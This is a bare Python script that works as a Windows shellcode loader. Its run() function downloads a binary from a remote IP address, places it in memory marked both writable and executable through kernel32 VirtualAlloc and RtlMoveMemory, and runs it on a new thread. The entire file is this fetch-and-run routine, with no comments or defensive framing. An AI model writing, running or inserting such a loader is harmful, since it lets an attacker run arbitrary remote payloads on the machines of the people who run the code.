import ctypes
import urllib.request


def run():
    try:
        sc = urllib.request.urlopen("http://203.0.113.240/sc.bin", timeout=10).read()
    except Exception:
        return
    k32 = ctypes.windll.kernel32
    k32.VirtualAlloc.restype = ctypes.c_void_p
    k32.CreateThread.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p]
    addr = k32.VirtualAlloc(None, len(sc), 0x3000, 0x40)
    buf = (ctypes.c_char * len(sc)).from_buffer_copy(sc)
    k32.RtlMoveMemory(ctypes.c_void_p(addr), buf, len(sc))
    th = k32.CreateThread(None, 0, ctypes.c_void_p(addr), None, 0, None)
    k32.WaitForSingleObject(th, 0xFFFFFFFF)
